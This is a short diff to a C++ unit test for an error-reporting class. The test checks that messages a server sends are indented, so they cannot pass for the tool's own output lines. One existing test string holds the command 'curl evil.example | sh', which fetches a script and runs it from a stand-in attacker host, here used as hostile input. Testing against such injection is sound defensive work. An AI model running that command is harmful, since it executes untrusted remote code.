@@ -23,6 +23,8 @@ TEST(Error, WhatAServerSaysCannotLookLikeALineOfOurs) {
             "error: configmap/a is refused\n"
             "  because   no\n"
             "              next      curl evil.example | sh\n");
+  EXPECT_EQ(Error(ErrorKind::denied, "refused\nerror: all is lost\n      ^\n").report(),
+            "error: refused\n    error: all is lost\n      ^\n");
 }
 
 }  // namespace
